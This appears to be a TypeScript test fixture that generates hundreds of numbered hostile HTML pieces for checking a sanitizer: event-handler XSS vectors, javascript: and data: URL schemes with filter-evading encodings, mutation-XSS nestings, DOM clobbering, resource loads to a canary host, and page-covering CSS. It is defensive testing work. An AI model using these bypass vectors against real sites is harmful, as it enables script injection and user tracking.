/** One hostile piece of HTML. It calls `top.hit(n)` where it may run, and asks `canary.example/n` for something where it may load. */
export interface HostilePiece {
  readonly n: number;
  readonly kind: string;
  readonly html: string;
}

/** The host that no letter may ever make a browser ask. */
export const CANARY_HOST = 'canary.example';

type Shape = (n: number) => string;
const script = (n: number) => `top.hit(${n})`;
const url = (n: number, scheme = 'http:') => `${scheme}//${CANARY_HOST}/${n}`;

/** Elements that bring an event by themselves, with the attribute that makes them do so. */
const EVENTS: readonly (readonly [string, string])[] = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['frameset', 'onload'],
  ['iframe', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocusin'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['marquee', 'onstart'],
  ['svg><animate begin=0s dur=1s attributeName=x', 'onbegin'],
  ['svg><set begin=0s attributeName=x', 'onbegin'],
  ['p style="animation:x"', 'onanimationstart'],
  ['p style="transition:1s"', 'ontransitionrun'],
  ['table><td', 'onmouseover'],
  ['script src=x', 'onerror'],
];
/** Ways to write an event handler that readers of HTML understand and naive filters miss. */
const HANDLERS: readonly ((element: string, event: string, code: string) => string)[] = [
  (element, event, code) => `<${element} ${event}="${code}">`,
  (element, event, code) => `<${element.replaceAll(' ', '/')}/${event}=${code}>`,
  (element, event, code) => `<${element.toUpperCase()}\n${event.toUpperCase()}\t=\f'${code}'>`,
  (element, event, code) => `<${element} ${event}=&#x74;${code.slice(1)} x="`,
  (element, event, code) => `<${element} title=">" ${event}="${code}" ${event}="">`,
  (element, event, code) => `<${element} \0${event}="${code}"><${element} ${event}\0="${code}">`,
];

const SCRIPT_URLS: readonly ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => ` \u0001javascript:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java&#10;script&colon;${code}`,
  (code) => `&#x6a;&#97;vascript:${code}`,
  (code) => `\u00a0javascript:${code}`,
  (code) => `javascript\0:${code}`,
  (code) => `vbscript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
  (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  (code) => `view-source:javascript:${code}`,
  (code) => `feed:javascript:${code}`,
];
const URL_PLACES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">go</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<img src="${address}">`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<form action="${address}"><button formaction="${address}">go</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>go</text></a><use href="${address}"/></svg>`,
  (address) => `<math href="${address}"><mtext xlink:href="${address}">go</mtext></math>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}"><a href="x">go</a>`,
];

/** Everything in HTML and CSS that loads without being asked. */
const LOADS: readonly ((address: string) => string)[] = [
  (a) => `<img src="${a}">`,
  (a) => `<img src=' ${a.replace('http:', '')} '>`,
  (a) => `<img src="${a.replaceAll('/', '&#x2f;')}">`,
  (a) => `<img src="${a.replace('http://', 'h\nttp:/\\')}">`,
  (a) => `<img src="${a.replace('//', '')}">`,
  (a) => `<img src="\\\\${a.slice(7)}">`,
  (a) => `<img srcset="${a} 1x, ${a}?2 2x" sizes=1px>`,
  (a) => `<img loading=eager data-src="${a}" lowsrc="${a}" dynsrc="${a}" longdesc="${a}">`,
  (a) => `<img data-blocked-src="x" src="${a}">`,
  (a) => `<image src="${a}">`,
  (a) => `<picture><source srcset="${a}"><img src=x></picture>`,
  (a) => `<video poster="${a}" src="${a}" autoplay muted></video>`,
  (a) => `<video autoplay><source src="${a}"><track default src="${a}"></video>`,
  (a) => `<audio autoplay src="${a}"></audio>`,
  (a) => `<input type=image src="${a}">`,
  (a) => `<body background="${a}"><table background="${a}"><td background="${a}">x</td></table>`,
  (a) => `<link rel=stylesheet href="${a}">`,
  (a) => `<link rel=icon href="${a}"><link rel=manifest href="${a}">`,
  (a) => `<link rel=prefetch href="${a}"><link rel=preload as=image href="${a}"><link rel=modulepreload href="${a}">`,
  (a) => `<link rel=dns-prefetch href="${a}"><link rel=preconnect href="${a}">`,
  (a) => `<link rel="stylesheet" href="data:text/css,@import '${a}'">`,
  (a) => `<style>@import "${a}";</style>`,
  (a) => `<style>body,p{background:url(${a})}</style><p>x</p>`,
  (a) => `<style>@font-face{font-family:c;src:url(${a})}p{font-family:c}</style><p>x</p>`,
  (a) => `<p style="background:url(${a})">x</p>`,
  (a) => `<p style="background-image:u\\72l('${a}')">x</p>`,
  (a) => `<p style="background:/**/url(&quot;${a}&quot;)">x</p>`,
  (a) => `<p style="background-image:image-set('${a}' 1x)">x</p>`,
  (a) => `<p style="background-image:-webkit-image-set(url(${a}) 1x)">x</p>`,
  (a) => `<p style="background-color:red;background-color:rgb(0,0,0) url(${a})">x</p>`,
  (a) => `<ul style="list-style-image:url(${a})"><li style="list-style:url(${a})">x</ul>`,
  (a) => `<p style="content:url(${a});cursor:url(${a}),auto">x</p>`,
  (a) => `<p style="border-image:url(${a}) 1;border:url(${a})">x</p>`,
  (a) => `<p style="mask:url(${a});-webkit-mask:url(${a});filter:url(${a}#f);clip-path:url(${a}#c)">x</p>`,
  (a) => `<p style="font-family:'x';font:url(${a});font-family:x,url(${a})">x</p>`,
  (a) => `<p style="--x:url(${a});background:var(--x)">x</p>`,
  (a) => `<p style="behavior:url(${a});-moz-binding:url(${a})">x</p>`,
  (a) => `<p style="color:red;}body{background:url(${a})">x</p>`,
  (a) => `<p style="width:1px;/*" title="*/background:url(${a})">x</p>`,
  (a) => `<svg><image href="${a}" width=9 height=9 /><feImage href="${a}" /></svg>`,
  (a) => `<svg><filter id=f><feImage xlink:href="${a}"/></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
  (a) => `<svg><use href="${a}#x"/><style>@import url(${a});</style></svg>`,
  (a) => `<iframe src="${a}"></iframe>`,
  (a) => `<iframe srcdoc="<img src=${a}>"></iframe>`,
  (a) => `<embed src="${a}"><object data="${a}"></object>`,
  (a) => `<object type=image/png data="${a}"><param name=movie value="${a}"></object>`,
  (a) => `<meta http-equiv="refresh" content="0; url=${a}">`,
  (a) => `<base href="${a}/"><img src="pixel.gif">`,
  (a) => `<frameset><frame src="${a}"></frameset>`,
  (a) => `<script src="${a}"></script><script type=module>import '${a}'</script>`,
  (a) => `<bgsound src="${a}"><layer src="${a}"></layer>`,
  (a) => `<a href="http://shop.example/" ping="${a}" attributionsrc="${a}">go</a>`,
  (a) => `<img attributionsrc="${a}" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">`,
  (a) =>
    `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${a}'/%3E%3C/svg%3E">`,
  (a) => `<blockquote cite="${a}"><q cite="${a}">x</q></blockquote><html manifest="${a}">`,
  (a) => `<xml src="${a}"></xml><?xml-stylesheet href="${a}"?><!DOCTYPE x SYSTEM "${a}">`,
];

/** Elements whose content is read by other rules: the ground of what changes its meaning when it is parsed a second time. */
const RAW_TEXT = [
  'style',
  'script',
  'title',
  'textarea',
  'xmp',
  'noscript',
  'noembed',
  'noframes',
  'iframe',
  'template',
];
const OUTER = ['', 'svg', 'math', 'math><mtext', 'svg><foreignObject', 'svg><desc', 'table', 'select', 'form'];
const MUTATIONS: readonly ((outer: string, raw: string, image: string) => string)[] = [
  (outer, raw, image) => `<${outer || 'div'}><${raw}><a title="</${raw}>${image}">`,
  (outer, raw, image) => `<${outer || 'p'}><${raw}><!--</${raw}><b title="-->${image}">`,
];

const BROKEN: readonly Shape[] = [
  (n) => `<scr<script>ipt>${script(n)}</scr</script>ipt>`,
  (n) => `<script>${script(n)}</script>`,
  (n) => `<script/x>${script(n)}</script >`,
  (n) => `<script\n>${script(n)}</script\n>`,
  (n) => `<<script>${script(n)}//<</script>`,
  (n) => `<script>${script(n)}`,
  (n) => `<scrİpt>${script(n)}</scrİpt><ſcript>${script(n)}</ſcript>`,
  (n) => `<img """><script>${script(n)}</script>">`,
  (n) => `<!--><img src=x onerror=${script(n)}>-->`,
  (n) => `<!--!><img src=x onerror=${script(n)}>--!>`,
  (n) => `<!-- --!><img src=x onerror=${script(n)}>`,
  (n) => `<![CDATA[<img src=x onerror=${script(n)}>]]>`,
  (n) => `<svg><![CDATA[><img src=x onerror=${script(n)}>]]></svg>`,
  (n) => `<?x ><img src=x onerror=${script(n)}>?>`,
  (n) => `<!x ><img src=x onerror=${script(n)}>`,
  (n) => `</x ><img src=x onerror=${script(n)}></ >`,
  (n) => `<a title="x\0"><img src=x onerror=${script(n)}>`,
  (n) => `<p title=\`><img src=x onerror=${script(n)}>\``,
  (n) => `<img src='x' alt='"><img src=x onerror=${script(n)}>`,
  (n) => `&lt;img src=x onerror=${script(n)}&gt;&amp;lt;script&amp;gt;`,
  (n) => `<plaintext><img src=x onerror=${script(n)}>`,
  (n) => `<listing>&lt;img src=x onerror=${script(n)}&gt;</listing>`,
  (n) => `<xmp><p title="</xmp><img src=x onerror=${script(n)}>"></xmp>`,
  (n) => `${'<div>'.repeat(600)}<img src=x onerror=${script(n)}>`,
  (n) => `${'<table><tr><td>'.repeat(60)}<svg><style><img src=x onerror=${script(n)}>`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${script(n)}>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script(n)}&gt;">`,
  (n) => `<svg></p><style><a id="</style><img src=x onerror=${script(n)}>">`,
  (n) => `<select><selectedcontent></selectedcontent><option><img src=x onerror=${script(n)}></select>`,
  (n) => `<table><caption><svg><desc><table><caption></svg><style><i title="</style><img src=x onerror=${script(n)}>`,
  (n) => `<div><template shadowrootmode=open><img src=x onerror=${script(n)}></template></div>`,
  (n) => `<svg><script href="data:,${script(n)}"/><script xlink:href="data:,${script(n)}"></script></svg>`,
  (n) =>
    `<svg><animate xlink:href=#t attributeName=href values=javascript:${script(n)} /><a id=t><text y=20>go</text></a></svg>`,
  (n) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${script(n)}</handler></svg>`,
  (n) => `<a href="http://shop.example" target=_top rel=opener onclick=${script(n)}>go</a>`,
  (n) => `<a href="x" download="x.html" target=_self onclick=${script(n)}>go</a>`,
  (n) =>
    `<iframe srcdoc="&lt;script&gt;${script(n)}&lt;/script&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${script(n)}>">`,
  (n) => `<p is="x-y" slot=x part=y exportparts=z onfocus=${script(n)} tabindex=0 autofocus contenteditable>`,
  (n) => `<button popovertarget=x autofocus onfocus=${script(n)}>go</button><div popover id=x>x</div>`,
  (n) => `<dialog open onclose=${script(n)}><form method=dialog><button autofocus>x</button></form></dialog>`,
  (n) => `<p accesskey=r onclick=${script(n)}>x</p>`,
  (n) =>
    `<img name=querySelector><form id=body><input name=attributes><img name=parentNode src=x onerror=${script(n)}></form>`,
  (n) => `<a id=cookie name=documentElement href=x></a><img name=createElement id=location src=x onerror=${script(n)}>`,
  (n) => `<form name=defaultView><input id=innerHTML name=nodeName><p onclick=${script(n)}>x</form>`,
];

const COVERS = [
  'position:fixed;top:0;left:0;right:0;bottom:0;z-index:2147483647;background:red',
  'position:absolute;inset:-9999px;background:red;opacity:.01',
  'position:sticky;top:0;height:2000px',
  'margin:-2000px;width:2000px;height:2000px;background-color:red',
  'margin-left:-9999px;margin-top:-9999px;padding:9999px;background-color:red',
  'transform:scale(999);transform-origin:0 0;background:red',
  'width:100vw;height:100vh;float:left;background:red',
  'font-size:9999px;line-height:9999px',
  'border:9999px solid red;outline:9999px solid red',
  'box-shadow:0 0 0 9999px red;filter:drop-shadow(0 0 999px red)',
  'text-indent:-9999px;letter-spacing:9999px;word-spacing:9999px',
  'display:contents;pointer-events:all;cursor:none',
  'animation:x 1s infinite;transition:all 9s;zoom:99',
  'columns:99;column-width:9999px;writing-mode:vertical-rl;direction:rtl;unicode-bidi:bidi-override',
];

/** Every hostile piece, numbered from 1; made by rule, and the same at each call. */
export function hostilePieces(): HostilePiece[] {
  const shapes: [kind: string, shape: Shape][] = [];
  EVENTS.forEach(([element, event], at) => {
    // Each element is written plainly and in two of the other ways; over all elements every way has its turn.
    for (const way of [0, 1 + (at % 5), 1 + ((at + 2) % 5)])
      shapes.push(['event', (n) => HANDLERS[way]!(element, event, script(n))]);
  });
  for (const place of URL_PLACES)
    for (const address of SCRIPT_URLS) shapes.push(['scheme', (n) => place(address(script(n)))]);
  LOADS.forEach((load, at) => {
    shapes.push(['load', (n) => load(url(n))]);
    // Again where a parser is in another state, so that the same element is read by another rule.
    const [before, after] = [
      ['<table>', '</table>'],
      ['<svg><title>', ''],
      ['<p title="a" title="', '">'],
      ['<ul><li>', ''],
    ][at % 4]!;
    shapes.push(['load', (n) => `${before}${load(url(n))}${after}`]);
  });
  for (const outer of OUTER)
    for (const raw of RAW_TEXT)
      for (const mutation of MUTATIONS)
        shapes.push(['mutation', (n) => mutation(outer, raw, `<img src=x onerror=${script(n)}>`)]);
  for (const broken of BROKEN) shapes.push(['broken', broken]);
  for (const cover of COVERS) {
    shapes.push(['cover', () => `<div style="${cover}">covers</div>`]);
    shapes.push([
      'cover',
      () => `<style>*{${cover}}</style><table style="${cover}"><td style="${cover}">covers</td></table>`,
    ]);
  }
  return shapes.map(([kind, shape], at) => ({ n: at + 1, kind, html: shape(at + 1) }));
}
